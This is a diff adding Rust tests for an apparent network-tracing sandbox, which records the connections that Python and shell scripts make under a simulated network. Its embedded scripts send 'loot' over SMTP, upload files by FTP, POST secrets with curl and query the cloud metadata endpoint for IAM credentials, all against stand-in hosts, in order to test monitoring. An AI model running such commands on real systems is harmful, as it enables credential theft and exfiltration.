@@ -120,3 +120,181 @@ fn a_quiet_command_has_no_acts() {
         assert!(answer["effect"]["contacts"].is_null(), "{answer}");
     }
 }
+
+#[test]
+fn any_port_of_anybody_is_open_to_whoever_is_traced_and_tied_to_him() {
+    if !python() {
+        return;
+    }
+    let script = "import socket, os\n\
+        def say(kind, to, what):\n\
+        \x20   s = socket.socket(socket.AF_INET6 if ':' in to[0] else socket.AF_INET, kind); s.connect(to); s.sendall(what); s.close()\n\
+        say(socket.SOCK_STREAM, ('203.0.113.5', 31337), b'first')\n\
+        child = os.fork()\n\
+        if child == 0:\n\
+        \x20   say(socket.SOCK_STREAM, ('2001:db8::5', 31338), b'second'); say(socket.SOCK_DGRAM, ('203.0.113.6', 31339), b'third'); os._exit(0)\n\
+        os.waitpid(child, 0)\n\
+        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.sendto(b'fourth', ('203.0.113.6', 31340))\n\
+        s = socket.socket(); s.setblocking(False)\n\
+        try: s.connect(('203.0.113.7', 31341))\nexcept BlockingIOError: print('later')\n\
+        import select; select.select([], [s], [], 3); s.send(b'fifth'); s.close()\n\
+        print(socket.create_connection(('a.example', 31342)).recv(100))";
+    let run = with(py(script), json!({"network": "simulate", "trace": "full"}));
+    for who in everybody() {
+        let answer = one(who, run.clone());
+        let greeting = "b'220 a.example ready\\r\\n'";
+        assert_eq!(
+            stdout(&answer),
+            format!("later\n{greeting}\n"),
+            "{who:?}: {answer}"
+        );
+        let tie = |port| {
+            let act = conversation(&answer, port);
+            (
+                act["process"].as_u64().unwrap(),
+                act["sent"]["head"].as_str().unwrap_or_default().to_owned(),
+            )
+        };
+        let (main, _) = tie(31337);
+        let (child, second) = tie(31338);
+        assert_ne!(main, child);
+        assert_eq!(second, "second");
+        assert_eq!(tie(31339), (child, "third".to_owned()));
+        assert_eq!(tie(31340), (main, "fourth".to_owned()));
+        assert_eq!(tie(31341), (main, "fifth".to_owned()));
+        assert_eq!(tie(31342), (main, String::new()));
+        assert!(acts(&answer, "packet").is_empty(), "{answer}");
+        let resolve = acts(&answer, "resolve");
+        assert!(resolve.iter().all(|act| act["process"] == main), "{resolve:?}");
+    }
+}
+
+#[test]
+fn mail_files_and_sockets_of_the_standard_library_work() {
+    let script = "import smtplib, ftplib, ssl, io, socket\n\
+        m = smtplib.SMTP('mail.example', 587, timeout=5); m.starttls(context=ssl.create_default_context()); m.login('me', 'secret-1')\n\
+        m.sendmail('a@a.example', ['b@b.example'], 'Subject: x\\r\\n\\r\\nloot'); m.quit()\n\
+        m = smtplib.SMTP_SSL('mail.example', 465, timeout=5); m.login('me', 'secret-2'); m.quit()\n\
+        f = ftplib.FTP('ftp.example', timeout=5); f.login('me', 'secret-3'); f.storbinary('STOR up.zip', io.BytesIO(b'file!'))\n\
+        got = []; f.retrbinary('RETR down.txt', got.append); print(b''.join(got)); f.quit()\n\
+        f = ftplib.FTP_TLS('ftp.example', timeout=5, context=ssl.create_default_context()); f.login('me', 'secret-4'); f.prot_p()\n\
+        f.storbinary('STOR tls.zip', io.BytesIO(b'hidden')); print(f.nlst()); f.quit()\n\
+        import http.client as h\n\
+        c = h.HTTPConnection('169.254.169.254', timeout=5); c.request('GET', '/latest/meta-data/iam/security-credentials/builder')\n\
+        print('ASIAEXAMPLE0000000001' in c.getresponse().read().decode())";
+    for answer in simulated(script) {
+        assert_eq!(stdout(&answer), "b'ok\\n'\n['readme.txt']\nTrue\n", "{answer}");
+        let starttls = conversation(&answer, 587);
+        assert_eq!(
+            (&starttls["language"], &starttls["tls"]["accepted"]),
+            (&json!("smtp"), &json!(true))
+        );
+        let verbs = |act: &Value| -> Vec<String> {
+            let all = act["exchanges"].as_array().unwrap();
+            all.iter()
+                .map(|one| one["verb"].as_str().unwrap_or_default().to_owned())
+                .collect()
+        };
+        assert!(verbs(starttls).contains(&"DATA".to_owned()), "{starttls}");
+        assert!(starttls["sent"]["head"].as_str().unwrap().contains("loot"));
+        assert!(verbs(conversation(&answer, 465)).contains(&"AUTH".to_owned()));
+        let ftp: Vec<_> = acts(&answer, "converse")
+            .into_iter()
+            .filter(|act| act["port"] == 21)
+            .collect();
+        assert_eq!(ftp.len(), 2);
+        assert!(verbs(ftp[1]).contains(&"STOR".to_owned()), "{}", ftp[1]);
+        let data: Vec<_> = acts(&answer, "converse")
+            .into_iter()
+            .filter(|act| act["language"] == "ftp-data")
+            .map(|act| act["sent"]["head"].as_str().unwrap_or_default())
+            .collect();
+        assert!(data.contains(&"file!") && data.contains(&"hidden"), "{data:?}");
+        assert_eq!(conversation(&answer, 80)["language"], "metadata");
+    }
+}
+
+#[test]
+fn http2_is_spoken_with_curl() {
+    if !std::path::Path::new("/usr/bin/curl").exists() {
+        eprintln!("SKIPPED: /usr/bin/curl is missing");
+        return;
+    }
+    let script = "curl -sS --http2 -d key=secret -w '%{http_version} %{http_code}\\n' https://api.example/v1/upload\n\
+        head -c 3000000 /dev/zero | curl -sS --http2 --data-binary @- -o /dev/null -w '%{http_version} %{http_code}\\n' https://api.example/big\n\
+        curl -sS --http2-prior-knowledge -o /dev/null -w '%{http_version} %{http_code}\\n' http://api.example/plain.json\n\
+        curl -sS --http1.1 -o /dev/null -w '%{http_version} %{http_code}\\n' https://203.0.113.77/x.txt";
+    for who in everybody() {
+        let answer = one(
+            who,
+            with(sh(script), json!({"network": "simulate", "trusting": true})),
+        );
+        assert_eq!(
+            stdout(&answer),
+            "{\"ok\":true}\n2 200\n2 200\n2 200\n1.1 200\n",
+            "{answer}"
+        );
+        let said: Vec<_> = acts(&answer, "converse");
+        assert_eq!(said.len(), 4, "{answer}");
+        assert_eq!(said[0]["tls"]["offered"][0], "h2");
+        let question = &said[0]["exchanges"][0];
+        assert_eq!(
+            (&question["verb"], &question["target"]),
+            (&json!("POST"), &json!("/v1/upload"))
+        );
+        assert_eq!(
+            (&question["host"], &question["body"]["head"]),
+            (&json!("api.example"), &json!("key=secret"))
+        );
+        assert_eq!(said[1]["exchanges"][0]["body"]["total"], 3_000_000);
+        assert_eq!(said[2]["language"], "http");
+        assert_eq!(said[3]["address"], "203.0.113.77");
+    }
+}
+
+#[test]
+fn somebody_may_be_let_through_and_nobody_else_is() {
+    if !python() {
+        return;
+    }
+    let script = "import socket\n\
+        def say(host, port):\n\
+        \x20   s = socket.create_connection((host, port), 5); s.sendall(b'hello\\n'); s.settimeout(5); print(s.recv(100)); s.close()\n\
+        say('real.example', 8000)\n\
+        try: say('other.example', 8000)\nexcept OSError as e: print('nobody')";
+    let run = with(
+        py(script),
+        json!({"network": "simulate", "allow": ["real.example", 8000]}),
+    );
+    for who in everybody() {
+        let answer = one(who, run.clone());
+        assert_eq!(stdout(&answer), "b'really: hello\\n'\nnobody\n", "{answer}");
+        let said = acts(&answer, "converse");
+        assert_eq!(said[0]["language"], "relayed");
+        assert_eq!(said[0]["exchanges"][0]["body"]["head"], "really: hello\n");
+        assert_eq!(said[1]["language"], "raw");
+    }
+}
+
+#[test]
+fn a_silent_network_hears_ipv6_too() {
+    if !python() {
+        return;
+    }
+    let script = "import socket\nu = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)\n\
+        try: u.sendto(b'x', ('2001:db8::9', 514)); print('sent')\nexcept OSError as e: print(e.errno)";
+    for who in everybody() {
+        let answer = one(who, with(py(script), json!({"network": "silent"})));
+        if stdout(&answer) != "sent\n" {
+            eprintln!("SKIPPED: this machine has no IPv6");
+            return;
+        }
+        let contacts = answer["effect"]["contacts"].to_string();
+        assert!(contacts.contains("2001:db8::9"), "{contacts}");
+        assert_eq!(
+            answer["effect"]["contacts"].as_array().unwrap().len(),
+            1,
+            "{contacts}"
+        );
+    }
+}
